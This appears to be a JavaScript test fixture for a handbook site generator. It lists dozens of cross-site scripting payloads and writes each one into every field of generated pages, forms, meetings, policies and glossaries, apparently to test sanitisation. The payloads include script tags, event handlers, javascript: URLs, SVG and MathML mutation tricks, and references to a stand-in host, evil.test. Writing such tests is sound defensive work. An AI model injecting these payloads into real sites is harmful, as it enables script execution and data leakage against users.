// A handbook written by an enemy: every payload in every slot that an author can write in.

/** Each would set `__pwned`, open a dialog or ask for something, were it to run. */
export const PAYLOADS = [
  '<script>window.__pwned=1</script>',
  '<ScRiPt>window.__pwned=1</sCrIpT>',
  '<scr<script>ipt>window.__pwned=1</scr</script>ipt>',
  '<script src=http://evil.test/x.js></script>',
  '<script/src=//evil.test/x.js></script>',
  '"><script>window.__pwned=1</script>',
  "'><script>window.__pwned=1</script>",
  '</title><script>window.__pwned=1</script>',
  '</textarea></style></noscript></template><script>window.__pwned=1</script>',
  '--><script>window.__pwned=1</script>',
  ']]><script>window.__pwned=1</script>',
  '<img src=x onerror=window.__pwned=1>',
  '<img src=http://evil.test/x.png>',
  '<img srcset="http://evil.test/x.png 1x">',
  '"><img src=x onerror=window.__pwned=1>',
  '" onmouseover="window.__pwned=1" x="',
  "' onfocus='window.__pwned=1' autofocus tabindex=1 x='",
  '" autofocus onfocus="window.__pwned=1',
  '<svg onload=window.__pwned=1>',
  '<svg><script>window.__pwned=1</script></svg>',
  '<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:window.__pwned=1"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>parent.__pwned=1</script></svg>#x"></svg>',
  '<math><mtext></p><img src=x onerror=window.__pwned=1></mtext></math>',
  '<math><mi xlink:href="javascript:window.__pwned=1">x</mi></math>',
  '<math><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.__pwned=1&gt;"></math>',
  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
  '<a href="javascript:window.__pwned=1">x</a>',
  '<a href=" java\tscript:window.__pwned=1">x</a>',
  '<a href="&#106;avascript:window.__pwned=1">x</a>',
  '<a href="data:text/html,<script>opener.__pwned=1</script>">x</a>',
  '<a href="vbscript:window.__pwned=1">x</a>',
  '[x](javascript:window.__pwned=1)',
  '[x](<java&#10;script:window.__pwned=1>)',
  '[x](JaVaScRiPt:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](x" onerror="window.__pwned=1)',
  '![x](http://evil.test/y.png)',
  '![" onerror="window.__pwned=1](x)',
  '[x]: javascript:window.__pwned=1',
  '<javascript:alert(1)>',
  '<iframe src=http://evil.test/></iframe>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<object data=http://evil.test/></object>',
  '<embed src=http://evil.test/>',
  '<link rel=stylesheet href=http://evil.test/x.css>',
  '<link rel=prefetch href=http://evil.test/x>',
  '<meta http-equiv=refresh content="0;url=javascript:window.__pwned=1">',
  '<meta http-equiv=refresh content="0;url=http://evil.test/">',
  '<base href=http://evil.test/>',
  '<form action=http://evil.test/><input type=submit autofocus></form>',
  '<form><button formaction=javascript:window.__pwned=1>x</button></form>',
  '<style>@import url(http://evil.test/x.css);</style>',
  '<p style="background:url(http://evil.test/x.png)">x</p>',
  '<style>*{animation:x}@keyframes x{}</style><p onanimationstart=window.__pwned=1>x</p>',
  '<details open ontoggle=window.__pwned=1><summary>x</summary></details>',
  '<video><source onerror=window.__pwned=1></video>',
  '<video poster=http://evil.test/x.png src=http://evil.test/x.mp4></video>',
  '<audio src=http://evil.test/x.mp3 autoplay></audio>',
  '<body onload=window.__pwned=1>',
  '<marquee onstart=window.__pwned=1>x</marquee>',
  '<input onfocus=window.__pwned=1 autofocus>',
  '<select autofocus onfocus=window.__pwned=1>',
  '<template><script>window.__pwned=1</script></template>',
  '<x onclick=window.__pwned=1>x</x>',
  '{{ "<script>window.__pwned=1</script>" | safe }}',
  '{% raw %}<script>window.__pwned=1</script>{% endraw %}',
  '${window.__pwned=1}',
  '&lt;script&gt;window.__pwned=1&lt;/script&gt;',
  '&#60;script&#62;window.__pwned=1&#60;/script&#62;',
  '\u{ff1c}script\u{ff1e}window.__pwned=1\u{ff1c}/script\u{ff1e}',
  '<script\u{0}>window.__pwned=1</script>',
  '<plaintext>',
  '<!--<img src="--><img src=x onerror=window.__pwned=1>',
  '```"><script>window.__pwned=1</script>\nx\n```',
  '~~~<img src=x onerror=window.__pwned=1>\nx\n~~~',
  '# x {#x" onmouseover="window.__pwned=1}',
  '[[minutes|<img src=x onerror=window.__pwned=1>]]',
  '[[<img src=x onerror=window.__pwned=1>]]',
  '{{limit <img/src=x onerror=window.__pwned=1>}}',
  '::: decision <img/src=x onerror=window.__pwned=1>\n:::',
  '[^"><script>window.__pwned=1</script>]\n\n[^"><script>window.__pwned=1</script>]: x',
  '> [!"><script>window.__pwned=1</script>]\n> x',
];

/** The sources of a handbook with every payload in every slot. */
export function hostile() {
  const files = {
    'content/handbook.yaml': `title: ${quote(PAYLOADS[11])}\ntitle_en: ${quote(PAYLOADS[7])}\nlanguages: [zh, en]\naudit: {fail_on: never}\n`,
    'content/index.md': `# ${PAYLOADS[0]}\n\n${PAYLOADS.map((_, at) => `[x](page-${at}.md)`).join(' ')}\n`,
  };
  const roles = [];
  const terms = [];
  PAYLOADS.forEach((payload, at) => {
    const q = quote(payload);
    const line = payload.replaceAll('\n', ' ');
    files[`content/page-${at}.md`] = page(`name: ${q}\nname_en: ${q}\nsummary: ${q}\naliases: [${q}]\nowner: ${q}\nversion: ${q}\ntags: [${q}]\n${q}: ${q}`, payload);
    files[`content/bare-${at}.md`] = body(payload);
    files[`content/forms/form-${at}.md`] = page(`name: ${q}\nname_en: ${q}\npurpose: ${q}\nfilled_by: ${q}\nfields:\n  - {id: a, ask: ${q}, ask_en: ${q}, type: text}\n  - {id: ${q}, ask: ${q}, type: ${q}, options: [${q}]}`, payload);
    files[`content/meetings/meeting-${at}.md`] = page(`name: ${q}\nchair: ${q}\nevery: ${q}\nlength: ${q}\nagenda:\n  - {item: ${q}, minutes: 5, owner: ${q}}\ninputs: [${q}]\noutputs: [${q}]`, payload);
    files[`content/processes/process-${at}.md`] = page(`name: ${q}\nowner: ${q}\nstarts_when: ${q}\nends_when: ${q}\nsteps:\n  - {id: a, name: ${q}, by: ${q}, does: ${q}, within: ${q}, out: [${q}]}`, payload);
    files[`content/decisions/decision-${at}.md`] = page(`name: ${q}\nquestion: ${q}\ninputs: [${q}]\nrows:\n  - {id: a, if: ${q}, decide: ${q}, says: ${q}}`, payload);
    files[`content/departments/department-${at}.md`] = page(`name: ${q}\nname_en: ${q}\nhead: ${q}\npurpose: ${q}`, payload);
    files[`content/responsibilities/area-${at}.md`] = page(`name: ${q}\nA: ${q}\nduties:\n  - {id: a, name: ${q}, A: ${q}, R: [${q}], evidence: ${q}}`, payload);
    files[`content/policies/policy-${at}.md`] = page(`name: ${q}\nname_en: ${q}\nrules: [${q}]`, payload);
    roles.push(`- {id: role-${at}, name: ${q}, name_en: ${q}, department: department-${at}, purpose: ${q}, aliases: [${q}]}`);
    terms.push(`- {id: term-${at}, name: ${q}, name_en: ${q}, means: ${q}}`);
    const name = line.replace(/[/\0\t]/g, '').slice(0, 60);
    files[`content/names/${name}.md`] = `text of ${at}\n`;
  });
  files['content/roles.yaml'] = `${roles.join('\n')}\n`;
  files['content/glossary.yaml'] = `${terms.join('\n')}\n`;
  return files;
}

function page(header, payload) {
  return `---\n${header}\n---\n${body(payload)}`;
}

function body(payload) {
  const line = payload.replaceAll('\n', ' ');
  const code = payload.replaceAll('\n', ' ').replaceAll('`', '');
  return `# ${line}

${payload}

text ${payload} text **${line}** *${line}* ~~${line}~~

| ${line.replaceAll('|', '\\|')} | b |
|---|---|
| ${line.replaceAll('|', '\\|')} | ${line.replaceAll('|', '\\|')} |

- ${line}
  - [ ] ${line}

> ${line}

[text](minutes.md "${line}") [${line}](minutes.md) [text](<${line.replaceAll('>', '')}>) [text](${encodeURI(line)})

![${line}](minutes.png "${line}") ![x](<${line.replaceAll('>', '')}>)

\`${code}\`

\`\`\`${code}
${code}
\`\`\`

<div title="${line.replaceAll('"', '&quot;')}" id="${line.replaceAll('"', '')}">${payload}</div>

[[${line}]] [[minutes|${line}]] {{limit ${line}}}

::: ${line}
${payload}
:::

Term[^1]

[^1]: ${line}

## ${line} {#${line.replaceAll('}', '')}}
`;
}

/** A YAML scalar in double quotes. */
function quote(text) {
  return JSON.stringify(text);
}
